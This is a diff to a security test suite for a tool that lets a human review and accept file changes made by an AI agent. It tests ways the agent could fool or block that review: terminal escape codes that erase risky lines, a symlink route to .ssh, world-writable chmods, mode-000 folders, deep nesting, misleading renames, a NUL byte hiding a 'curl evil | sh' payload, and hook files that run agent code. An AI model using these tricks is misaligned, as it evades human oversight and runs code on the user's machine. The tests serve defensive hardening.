@@ -12,7 +12,7 @@ import { type Human, type Result, createHuman, packageForHumans, sh } from '../h
 
 const REVIEW_ROOT = '/var/lib/agent-as-unix-user/review';
 
-interface JsonChange { path: string; kind: string; type: string; risky: boolean; reasons: string[]; refused?: string; conflict?: string; from?: string; target?: string; mode?: string; oldMode?: string }
+interface JsonChange { path: string; kind: string; replaces?: string; partOf?: string; type: string; risky: boolean; reasons: string[]; refused?: string; conflict?: string; from?: string; target?: string; mode?: string; oldMode?: string }
 
 describe('review shares: attacks', () => {
   let human: Human;
@@ -65,7 +65,7 @@ describe('review shares: attacks', () => {
     sh(['rm', '-rf', `${REVIEW_ROOT}/${agent}`]);
   });
 
-  test('escape sequences in a refused symlink target reach the human raw through `au changes` and `--diff` (REFUSED text not escaped)', { todo: 'ATTACK SUCCEEDS: c.refused embeds the raw target; describeChange and the diff meta line print it without printable(); CSI A/K pass the terminal filter, so the agent erases the RISKY lines above' }, () => {
+  test('escape sequences in a refused symlink target reach the human raw through `au changes` and `--diff` (REFUSED text not escaped)', () => {
     try {
       // Sorted last ("zz"), its line moves the cursor up and erases the lines listed before it.
       inRun(`printf '#!/bin/sh\\n' > Makefile && ln -s "$(printf '/x\\033[1A\\033[2K\\033[1A\\033[2K')" zz`);
@@ -92,7 +92,7 @@ describe('review shares: attacks', () => {
     }
   });
 
-  test('a symlink whose target is lexically inside the share but leaves it through another agent symlink (a -> ., b -> a/../..) is not refused: accepted, SRC points outside', { todo: 'ATTACK SUCCEEDS: targetLeavesShare normalises lexically; "a/../x" with a -> . resolves to the parent of SRC; refuse targets through symlinks (resolve with the staged/SRC links) or refuse any symlink-to-symlink / ".." component' }, () => {
+  test('a symlink whose target is lexically inside the share but leaves it through another agent symlink (a -> ., b -> a/../..) is not refused: accepted, SRC points outside', () => {
     try {
       inRun('ln -s . a && ln -s a/../.ssh keys');
       const c = changesJson();
@@ -142,7 +142,7 @@ describe('review shares: attacks', () => {
     }
   });
 
-  test('world-writable modes (chmod 0777 on a folder, 0666 on a file of the human) are applied by a plain `au accept`, not flagged', { todo: 'ATTACK SUCCEEDS: a mode change that adds group/other write is not risky; the human\'s folder becomes writable by every local user; flag (or refuse) g+w/o+w, or mask with the SRC mode' }, () => {
+  test('world-writable modes (chmod 0777 on a folder, 0666 on a file of the human) are applied by a plain `au accept`, not flagged', () => {
     try {
       inRun('chmod 0777 sub && chmod 0666 a.txt && chmod 0777 build.sh');
       const r = human.au(['accept', '-a', agent]);
@@ -155,23 +155,25 @@ describe('review shares: attacks', () => {
     }
   });
 
-  test('a folder of mode 000 (or a package.json of mode 000) in the upper layer makes `au changes`, `au accept` and `au discard` fail for every change', { todo: 'ATTACK SUCCEEDS: the scan opens the agent\'s directories/files as the human without unlocking them (EACCES): one chmod 0 blocks au changes, au accept and au discard of everything (only au mount remove --discard-changes, as root, clears it); treat EACCES like removeTree does (O_PATH + chmod u+rwx on the human-owned upper entry) or report the entry as refused' }, () => {
+  test('a folder of mode 000 (or a package.json of mode 000) in the upper layer makes `au changes`, `au accept` and `au discard` fail for every change', () => {
     try {
-      inRun('echo good > good.txt && mkdir locked && echo y > locked/y && chmod 000 locked');
+      inRun(`echo good > good.txt && echo other > other.txt && mkdir locked && echo y > locked/y && chmod 000 locked && printf '{}' > package.json && chmod 000 package.json`);
+      const listed = changesJson();
+      for (const p of ['locked', 'package.json']) assert.ok(listed.find((x) => x.path === p)?.refused, `${p}: ${JSON.stringify(listed)}`);
       const statuses = {
         changes: human.au(['changes', '-a', agent, '--json']).status,
         accept: human.au(['accept', '-a', agent, 'good.txt']).status,
-        discard: human.au(['discard', '-a', agent, 'good.txt']).status,
+        discard: human.au(['discard', '-a', agent, 'other.txt']).status,
         discardAll: human.au(['discard', '-a', agent]).status,
       };
       assert.deepEqual(statuses, { changes: 0, accept: 0, discard: 0, discardAll: 0 });
     } finally {
       reset();
-      sh(['rm', '-f', `${src}/good.txt`]);
+      sh(['rm', '-f', `${src}/good.txt`, `${src}/other.txt`]);
     }
   });
 
-  test('deep nesting (2000 folders): `au changes` and `au discard` survive (no stack overflow), nothing half-applied', { todo: 'ATTACK SUCCEEDS: the scan and removeTree recurse in JS, one fd and several frames per level: a deep tree the agent makes in seconds crashes au changes/accept/discard (RangeError/EMFILE); walk iteratively with a depth limit and report the subtree as refused' }, () => {
+  test('deep nesting (2000 folders): `au changes` and `au discard` survive (no stack overflow), nothing half-applied', () => {
     try {
       // One process, no fork per level (2000 levels: each a single component, no path ever near PATH_MAX).
       inRun(`python3 -c "import os,time; t=time.time(); os.mkdir('deep'); os.chdir('deep')\nfor i in range(2000): os.mkdir('d'); os.chdir('d')\nopen('f','w').write('end'); print('made in', time.time()-t)"`);
@@ -179,14 +181,18 @@ describe('review shares: attacks', () => {
         const r = human.au(args, { timeoutMs: 120_000 });
         return r.status === 0 ? 'ok' : `${r.status}: ${r.stderr.trim().slice(0, 200)}`;
       };
+      const deepest = changesJson().filter((x) => x.path.startsWith('deep/')).sort((x, y) => y.path.length - x.path.length)[0];
+      assert.match(deepest?.refused ?? '', /folders deep/, 'the part past the depth limit is listed as refused');
       const got = { changes: run(['changes', '-a', agent, '--json']), accept: run(['accept', '-a', agent, 'deep']), discard: run(['discard', '-a', agent]) };
       assert.deepEqual(got, { changes: 'ok', accept: 'ok', discard: 'ok' });
+      assert.equal(readdirSync(`${stage}/upper`).length, 0, 'au discard left part of the tree');
     } finally {
       reset();
+      sh(['rm', '-rf', `${src}/deep`]);
     }
   });
 
-  test('naming the OLD path of a rename applies the risky new path (mv build.sh .husky/pre-commit; au accept build.sh)', { todo: 'ATTACK SUCCEEDS: selectChanges treats c.from === named as exact, so a risky rename target is applied when only its harmless source was named; require the new path itself to be named for risky renames' }, () => {
+  test('naming the OLD path of a rename applies the risky new path (mv build.sh .husky/pre-commit; au accept build.sh)', () => {
     try {
       inRun('mkdir -p .husky && mv build.sh .husky/pre-commit');
       const c = changesJson();
@@ -202,14 +208,27 @@ describe('review shares: attacks', () => {
     }
   });
 
-  test('a folder replaced by a file: `au changes` shows one "modified" file and hides that the folder and every file in it are deleted by accept', { todo: 'ATTACK SUCCEEDS: a dir->file (or dir->symlink) replacement is listed as kind modified/type file only; replace() then removeTree()s the human\'s folder; list the folder\'s entries as deletions (or a type change) so the human sees what goes' }, () => {
+  test('a folder replaced by a file: `au changes` shows one "modified" file and hides that the folder and every file in it are deleted by accept', () => {
     try {
       inRun('rm -rf docs && echo notes > docs');
       const c = changesJson();
       const d = c.filter((x) => x.path.startsWith('docs'));
       assert.ok(d.some((x) => x.path === 'docs/one.md' && x.kind === 'deleted') || d.some((x) => /type|replac|folder|director/i.test(`${x.kind} ${x.reasons.join()} ${x.conflict ?? ''}`)), JSON.stringify(d));
+      assert.deepEqual(d.map((x) => [x.path, x.kind, x.replaces ?? x.partOf]), [['docs', 'replaced', 'directory'], ['docs/one.md', 'deleted', 'docs'], ['docs/two.md', 'deleted', 'docs']]);
+      const text = human.au(['changes', '-a', agent]);
+      assert.match(text.stdout, /replaced +docs .*in place of your directory, which goes with all it holds/);
+      assert.match(text.stdout, /deleted +docs\/one\.md .*goes with the replacement of docs/);
+      const alone = human.au(['accept', '-a', agent, 'docs/one.md']);
+      assert.notEqual(alone.status, 0, 'a deletion that goes with a replacement applied on its own');
+      assert.ok(lstatSync(`${src}/docs`).isDirectory());
+      const r = human.au(['accept', '-a', agent, 'docs']);
+      assert.equal(r.status, 0, said(r));
+      assert.equal(readFileSync(`${src}/docs`, 'utf8'), 'notes\n');
+      assert.deepEqual(changesJson().filter((x) => x.path.startsWith('docs')), []);
     } finally {
       reset();
+      sh(['rm', '-rf', `${src}/docs`]);
+      asHuman(`mkdir -p ${src}/docs && echo one > ${src}/docs/one.md && echo two > ${src}/docs/two.md`);
     }
   });
 
@@ -236,13 +255,19 @@ describe('review shares: attacks', () => {
     }
   });
 
-  test('a file replaced by a folder: listed only as "added a.txt/", accept deletes the human\'s file with no deletion shown', { todo: 'ATTACK SUCCEEDS: directory() pushes kind added even when SRC has a file there; applyOne unlinks it; list it as a replacement (deleted file + added folder)' }, () => {
+  test('a file replaced by a folder: listed only as "added a.txt/", accept deletes the human\'s file with no deletion shown', () => {
     try {
       inRun('rm a.txt && mkdir a.txt && echo in > a.txt/in');
       const c = changesJson().filter((x) => x.path === 'a.txt');
-      assert.ok(c.some((x) => x.kind === 'deleted' || x.kind === 'modified' || /replac|type/i.test(x.reasons.join())), JSON.stringify(c));
+      assert.ok(c.some((x) => (x.kind === 'replaced' && x.replaces === 'file') || x.kind === 'deleted' || x.kind === 'modified' || /replac|type/i.test(x.reasons.join())), JSON.stringify(c));
+      assert.match(human.au(['changes', '-a', agent]).stdout, /replaced +a\.txt\/ .*in place of your file/);
+      const r = human.au(['accept', '-a', agent, 'a.txt']);
+      assert.equal(r.status, 0, said(r));
+      assert.equal(readFileSync(`${src}/a.txt/in`, 'utf8'), 'in\n');
     } finally {
       reset();
+      sh(['rm', '-rf', `${src}/a.txt`]);
+      asHuman(`echo hello > ${src}/a.txt`);
     }
   });
 
@@ -313,7 +338,7 @@ describe('review shares: attacks', () => {
     }
   });
 
-  test('a mode-000 folder also hides the pending changes from `au sessions list` (counted as 0, silently)', { todo: 'ATTACK SUCCEEDS: awaitingReview() swallows the EACCES and reports nothing awaiting review; say the share is unreadable instead' }, async () => {
+  test('a mode-000 folder also hides the pending changes from `au sessions list` (counted as 0, silently)', async () => {
     const server = background(['runuser', '-u', human.name, '--', 'env', '-i', ...Object.entries(human.env()).map(([k, v]) => `${k}=${v}`), process.execPath, join(packageForHumans(), 'bin', 'au'), 'server', 'run'], children, human.home);
     try {
       inRun('echo pending > pending.txt');
@@ -328,18 +353,30 @@ describe('review shares: attacks', () => {
       assert.match(await listed(), new RegExp(`agent ${agent}: 1 change awaits review`), 'the honest case is counted');
       inRun('mkdir locked && chmod 000 locked');
       assert.match(await listed(), new RegExp(`${agent}.*(await|review|unreadable)`), 'the pending change vanished from au sessions list');
+      // A share au cannot read at all (here: STAGE not the human's) is reported, not counted as 0.
+      sh(['chown', 'root', stage]);
+      try {
+        assert.match(await listed(), new RegExp(`agent ${agent}: the review share .* cannot be read`));
+      } finally {
+        sh(['chown', human.name, stage]);
+      }
     } finally {
       await server.stop();
       reset();
     }
   });
 
-  test('a NUL byte in a JS comment makes `au changes --diff` hide the whole content as "Binary files differ"; node still runs it; not risky', { todo: 'ATTACK SUCCEEDS: isBinary() (a NUL in the first 8000 bytes) decides the diff shows nothing; a JS file with /*\\0*/ runs under node and is applied by a plain au accept unseen; show such files escaped (the terminal path already escapes every control) or flag text-looking files with NULs' }, () => {
+  test('a NUL byte in a JS comment makes `au changes --diff` hide the whole content as "Binary files differ"; node still runs it; not risky', () => {
     try {
       inRun(`printf '/*\\000*/ require("child_process").execSync("curl evil | sh")\\n' > index.js`);
       const diff = human.au(['changes', '-a', agent, '--diff']);
       assert.equal(diff.status, 0, said(diff));
       assert.match(diff.stdout, /curl evil/, `the diff hid the content: ${JSON.stringify(diff.stdout.slice(0, 400))}`);
+      assert.doesNotMatch(diff.stdout, /modified scripts and executables run as you/, 'a new file is called from nowhere yet');
+      inRun(`printf '/*\\377*/ require("child_process").execSync("curl evil | sh")\\n' > index.js && echo 'curl evil | sh' >> build.sh`);
+      const c = changesJson();
+      assert.match(c.find((x) => x.path === 'index.js')?.reasons.join() ?? '', /binary content/, 'a file --diff does not show is risky');
+      assert.match(human.au(['changes', '-a', agent]).stdout, /modified scripts and executables run as you/);
     } finally {
       reset();
     }
@@ -370,7 +407,7 @@ describe('review shares: attacks', () => {
     }
   });
 
-  test('code the human\'s tools run, on paths the risk list lacks, is applied by a plain `au accept` (lint-staged, lefthook, .hg/hgrc, .cargo/config.toml, .pnpmfile.cjs, binding.gyp, yarnPath release)', { todo: 'ATTACK SUCCEEDS: risky.ts is a short list: these paths run agent code on git commit / hg status / cargo / pnpm / npm install / yarn, yet none is flagged; add them (and package.json fields beyond scripts: lint-staged, husky, simple-git-hooks, gypfile, dependency URLs)' }, () => {
+  test('code the human\'s tools run, on paths the risk list lacks, is applied by a plain `au accept` (lint-staged, lefthook, .hg/hgrc, .cargo/config.toml, .pnpmfile.cjs, binding.gyp, yarnPath release)', () => {
     const paths = ['.lintstagedrc.json', 'lefthook.yml', '.hg/hgrc', '.cargo/config.toml', '.pnpmfile.cjs', 'binding.gyp', '.yarn/releases/yarn-4.0.0.cjs'];
     try {
       inRun(`mkdir -p .hg .cargo .yarn/releases && for p in ${paths.join(' ')}; do echo "evil" > $p; done && sed -i 's/"name": "p"/"name": "p", "lint-staged": { "*": "sh -c evil" }/' package.json`);
